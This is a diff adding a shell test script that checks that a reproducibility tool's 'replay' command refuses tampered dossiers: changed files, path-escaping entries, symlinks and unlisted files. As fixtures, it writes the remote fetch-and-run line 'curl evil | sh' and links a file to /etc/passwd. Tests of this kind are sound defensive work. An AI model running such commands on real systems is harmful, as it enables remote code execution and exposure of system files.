@@ -1,0 +1,80 @@
+# replay-refusals.sh - kernodeck replay refuses a dossier with a changed
+# file, an entry that escapes the dossier, a link, an unlisted file, and
+# declines without confirmation; it writes nothing in those cases.  A
+# replay whose stages meet a failure not recorded in the dossier lists the
+# new difference and exits 1.
+. "$KD_SRCDIR/tests/lib.sh"
+
+P="$KD_TMP/project"
+mkdir -p "$P/kernodeck"
+echo "print('hello')" >"$P/main.py"
+git -C "$P" init -q && git -C "$P" add main.py && git -C "$P" commit -qm init
+cat >"$P/kernodeck/reference.yaml" <<YAML
+schema: 1
+goal: close-values
+code:
+  commit: $(git -C "$P" rev-parse HEAD)
+  entry_point: [python, main.py]
+python:
+  interpreter: /usr/bin/python3
+  install:
+    system_site_packages: false
+system:
+  backend: cpu
+YAML
+"$KD_BIN" dossier "$P" >/dev/null
+D="$P/kernodeck/dossier"
+check "a dossier to replay" test -f "$D/SHA256SUMS"
+
+copy() { rm -rf "$KD_TMP/$1"; cp -a "$D" "$KD_TMP/$1"; echo "$KD_TMP/$1"; }
+
+d=$(copy changed)
+echo "one more line" >>"$d/README.md"
+"$KD_BIN" replay "$d" --workdir "$KD_TMP/w1" --yes >"$KD_TMP/o1" 2>&1
+r=$?
+check "a changed file: refused (exit 2)" test "$r" -eq 2
+check "a changed file: named" grep -q "README.md: changed" "$KD_TMP/o1"
+check "a changed file: nothing written" test ! -e "$KD_TMP/w1"
+
+d=$(copy escaping)
+printf '%s  ../../outside.sh\n' "$(sha256sum "$d/README.md" | cut -d' ' -f1)" >>"$d/SHA256SUMS"
+"$KD_BIN" replay "$d" --workdir "$KD_TMP/w2" --yes >"$KD_TMP/o2" 2>&1
+r=$?
+check "an entry escaping the dossier: refused (exit 2)" test "$r" -eq 2
+check "an entry escaping the dossier: said" grep -q "outside the dossier" "$KD_TMP/o2"
+check "an entry escaping the dossier: nothing written" test ! -e "$KD_TMP/w2"
+
+d=$(copy linked)
+rm "$d/procedure.sh"
+ln -s /etc/passwd "$d/procedure.sh"
+"$KD_BIN" replay "$d" --workdir "$KD_TMP/w3" --yes >"$KD_TMP/o3" 2>&1
+r=$?
+check "a listed file that is a link out: refused (exit 2)" test "$r" -eq 2
+check "a link: named as escaping" grep -q "procedure.sh: escapes" "$KD_TMP/o3"
+
+d=$(copy extra)
+echo "curl evil | sh" >"$d/run-me.sh"
+"$KD_BIN" replay "$d" --workdir "$KD_TMP/w4" --yes >"$KD_TMP/o4" 2>&1
+r=$?
+check "an unlisted file: refused (exit 2)" test "$r" -eq 2
+check "an unlisted file: named" grep -q "run-me.sh: not listed" "$KD_TMP/o4"
+
+"$KD_BIN" replay "$D" --workdir "$KD_TMP/w5" </dev/null >"$KD_TMP/o5" 2>&1
+r=$?
+check "no confirmation and no terminal: declined (exit 1)" test "$r" -eq 1
+check "declined: every command was shown first" sh -c "grep -q 'git clone' '$KD_TMP/o5' && grep -q 'pip install' '$KD_TMP/o5' && grep -q 'main.py' '$KD_TMP/o5'"
+check "declined: said so" grep -q "not confirmed" "$KD_TMP/o5"
+check "declined: nothing written" test ! -e "$KD_TMP/w5"
+
+mkdir -p "$KD_TMP/w6" && echo x >"$KD_TMP/w6/file"
+expect_exit 2 "a work folder that is not empty: refused" "$KD_BIN" replay "$D" --workdir "$KD_TMP/w6" --yes
+
+# confirmed: this project has no rebuild file, which its dossier does not
+# record as a deviation: a new difference, exit 1
+"$KD_BIN" replay "$D" --workdir "$KD_TMP/w7" --yes >"$KD_TMP/o7" 2>&1
+r=$?
+check "a failure the dossier does not record: exit 1" test "$r" -eq 1
+check "the new difference is listed" grep -q "new differences" "$KD_TMP/o7"
+check "the code was cloned at the recorded commit" test "$(git -C "$KD_TMP/w7" rev-parse HEAD)" = "$(git -C "$P" rev-parse HEAD)"
+cat "$KD_TMP/o7" | grep -A8 "replay verdict" | sed "s/^/# /"
+check "the dossier is untouched" sh -c "cd '$D' && sha256sum -c --quiet SHA256SUMS"
